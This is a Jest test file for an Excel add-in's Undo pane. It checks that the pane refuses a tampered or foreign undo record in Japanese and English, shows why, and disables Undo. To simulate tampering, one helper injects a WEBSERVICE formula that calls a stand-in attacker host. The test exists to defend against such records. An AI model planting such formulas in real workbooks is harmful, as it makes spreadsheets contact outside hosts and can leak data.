/**
 * @jest-environment jsdom
 */
/** Issue 14, item 7: the pane says, in its language, that Undo refuses a record it cannot trust, and offers no Undo. */
import { webcrypto } from 'node:crypto';
import { TextEncoder as TextEncoderNode } from 'node:util';
import { fireEvent, render, screen } from '@testing-library/react';
import { buildWorkbook } from '../../adapters/xlsx/applyPlan';
import { workbookSnapshot } from '../../adapters/xlsx/readSnapshot';
import { createExcelHost, type ExcelRun, type WorkbookHost } from '../../adapters/officejs/host';
import { UndoRefused } from '../../adapters/officejs/undo';
import { UNDO_SHEET, refusalMessage } from '../../adapters/officejs/undoRecord';
import { createFakeExcel, fakeWorkbookFrom } from '../../../test/support/fakeExcel';
import { demoWorkbookSpecs } from '../../../test/support/samples/demoWorkbook';
import { messages } from '../i18n';
import { UndoView } from './UndoView';

(globalThis as unknown as { TextEncoder: unknown }).TextEncoder ??= TextEncoderNode;
// Web Crypto signs the undo record, as in Office's webviews; jsdom has no crypto.subtle.
if (!globalThis.crypto?.subtle) Object.defineProperty(globalThis, 'crypto', { value: webcrypto, configurable: true });
// jsdom has no ResizeObserver (Fluent's message bar uses one).
(globalThis as unknown as { ResizeObserver: unknown }).ResizeObserver ??= class {
  observe(): void {}
  unobserve(): void {}
  disconnect(): void {}
};

async function tamperedWorkbook() {
  const fake = createFakeExcel(fakeWorkbookFrom(workbookSnapshot(buildWorkbook(demoWorkbookSpecs())).sheets));
  const host = createExcelHost({
    run: fake.run as unknown as ExcelRun,
    isSetSupported: fake.isSetSupported,
    changeTracking: true,
    settings: fake.document.settings,
  });
  await host.grade({ overwrite: true });
  const a1 = fake.data.sheet(UNDO_SHEET)!.cells.get('A1')!;
  a1.value = String(a1.value).replace(/"formula":null/, '"formula":"=WEBSERVICE(\\"http://attacker.example/\\")"');
  return { fake, host };
}

test.each(['ja', 'en'] as const)('a tampered undo record: the pane (%s) says Undo refuses it and why, and offers no Undo', async (locale) => {
  const { fake, host } = await tamperedWorkbook();
  const t = messages(locale);
  const before = JSON.stringify(fake.data.sheets.map((s) => [s.name, [...s.cells]]));
  render(<UndoView host={host} t={t} />);
  const bar = await screen.findByTestId('undo-refused');
  expect(bar.textContent).toBe(t.undoRefused('bad-signature'));
  expect(bar.textContent).toMatch(
    locale === 'ja' ? /信頼できないため、元に戻しません：記録の署名が一致しません/ : /cannot be trusted \(its signature does not match/,
  );
  expect(screen.queryByTestId('last-run')).toBeNull(); // nothing of the record (its action, its sheets) is shown
  expect((screen.getByRole('button', { name: t.undo }) as HTMLButtonElement).disabled).toBe(true);
  expect(JSON.stringify(fake.data.sheets.map((s) => [s.name, [...s.cells]]))).toBe(before);
});

test('a record changed between listing and Undo: the refusal in the pane’s language', async () => {
  const t = messages('en');
  const host = {
    lastRun: async () => ({ action: '評価の記入', at: new Date().toISOString(), cells: 3, addedSheets: [], replacedSheets: [], refused: null }),
    undo: async () => Promise.reject(new UndoRefused('other-workbook')),
  } as unknown as WorkbookHost;
  render(<UndoView host={host} t={t} />);
  await screen.findByTestId('last-run');
  fireEvent.click(screen.getByRole('button', { name: t.undo }));
  expect(await screen.findByText(t.undoRefused('other-workbook'))).toBeTruthy();
  expect(t.undoRefused('other-workbook')).not.toBe(refusalMessage('other-workbook'));
  expect(messages('ja').undoRefused('other-workbook')).toBe(refusalMessage('other-workbook'));
});
